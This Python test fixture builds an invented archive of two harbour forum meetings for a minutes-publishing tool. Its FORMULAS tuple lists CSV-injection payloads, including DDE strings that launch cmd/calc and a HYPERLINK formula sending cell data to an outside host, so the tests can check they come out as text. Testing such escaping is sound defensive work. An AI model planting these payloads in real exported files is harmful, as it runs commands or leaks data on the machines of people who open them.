"""An archive made by hand that holds everything the data can: every state of an action, decisions with all that is
known of them, names from the register, and cells that a spreadsheet would take for formulas.

It is what two invented meetings are resolved to, with the rest put in: what reading finds is tested where it is read.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path

from minutebook import build
from minutebook.model import (
    Action,
    Archive,
    Decision,
    Meeting,
    News,
    Owner,
    Report,
    ResolvedAction,
    ResolvedDecision,
    Settings,
    SourceRef,
    Votes,
)
from tests import archives, harbour

SITE = "https://h.example/r/"
SETTINGS = Settings("Harbour Forum", licence="Free", licence_url="https://example.org/", site_url=SITE)
MAY, JULY = "harbour-forum/2021-05-04", "harbour-forum/2021-07-06"
BO = Owner("Bo Ray", person="bo-ray")
GUILD = Owner("Guild of Pilots", organization="guild-of-pilots")
CLERK = Owner("the Clerk")
WHEN = dt.date(2021, 7, 6)

FORMULAS = (
    '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "tide;=1+1",
    "tide\t=1+1",
    "tide\n=1+1",
    'tide; "=1+1"',
)
"""What a spreadsheet might work out, by OWASP's page on CSV injection: each has to come out as text."""


def archive(folder: Path) -> Archive:
    """The archive; `folder` is an empty one to put its minutes into."""
    made = build.load(archives.write(folder, harbour.MEETINGS), SETTINGS)[0]
    return replace(made, meetings=tuple(_CHANGED[m.id](m) for m in made.meetings))


def _may(m: Meeting) -> Meeting:
    first, second = m.actions
    source = m.minutes.source
    lives = [
        replace(
            first, silent_for=0, action=replace(first.action, number="AP1"), news=(_heard("reported", "Half done"),)
        ),
        replace(second, silent_for=1),
        _action("3", source, "Mend the rail", (BO,), (_heard("carried_forward", "c/f"),)),
        _action("4", source, "Paint the rail", (BO, GUILD), (_heard("reported", "Begun"), _heard("done", "Complete"))),
        _action("5", source, "Sell the rail", (CLERK,), (News(WHEN, "dropped", "Of no use any more", "register"),)),
        _action("6", source, "Buy a rail", (), (_heard("superseded", "See below", by=f"{JULY}/action-2"),)),
    ]
    decided = m.decisions[0].decision
    held = [
        m.decisions[0],
        _decision("2", decided, "resolution", (BO,), (CLERK,), (), Votes(5, 0, 2), "Carried by 5 votes to 0"),
        _decision("3", decided, "election", (), (), (BO, Owner("Ann Lee", person="ann-lee")), None, "Elected"),
        _decision("4", decided, "motion", (GUILD,), (), (), Votes(in_favour=3), "Carried"),
    ]
    return replace(m, actions=tuple(lives), decisions=tuple(held))


def _july(m: Meeting) -> Meeting:
    source = m.minutes.source
    at, raised = SourceRef(source, 22, 22), dt.date(2021, 5, 4)
    reports = (
        Report("AP1 half done", 6, 0, 13, at, "by its number", number="AP1"),
        Report("AP6: see AP2", 6, 0, 12, at, "by its number", number="AP6", of_last=True, by="AP2", state="superseded"),
        Report("Paint: done", 6, 0, 9, at, "its words", quoted="Paint", raised=raised, state="done"),
    )
    again = replace(_action("3", source, "Mend the rail", (BO,), ()), restates=f"{MAY}/action-3")
    hostile = [_action(str(n), source, words, (Owner(words),), ()) for n, words in enumerate(FORMULAS, 4)]
    new = _action("2", source, "Buy two rails", (Owner("Zoë Ånström"),), ())
    return replace(m, minutes=replace(m.minutes, reports=reports), actions=(*m.actions, new, again, *hostile))


_CHANGED: Mapping[str, Callable[[Meeting], Meeting]] = {MAY: _may, JULY: _july}


def _heard(state: str, text: str, by: str = "") -> News:
    return News(WHEN, state, text, "by its number", JULY, "p-2-1", SourceRef("forum/2021-07-06.md", 22, 22), by)


def _action(number: str, source: str, text: str, owners: tuple[Owner, ...], news: tuple[News, ...]) -> ResolvedAction:
    action = Action(text, 20, 0, len(text), (), SourceRef(source, 24, 24), "a marker with a sign behind it")
    return ResolvedAction(number, action, owners, 1, news=news)


def _decision(
    number: str,
    like: Decision,
    kind: str,
    movers: tuple[Owner, ...],
    seconders: tuple[Owner, ...],
    elected: tuple[Owner, ...],
    votes: Votes | None,
    result: str,
) -> ResolvedDecision:
    decision = replace(like, kind=kind, votes=votes, result=result)
    return ResolvedDecision(number, decision, 1, movers, seconders, elected)
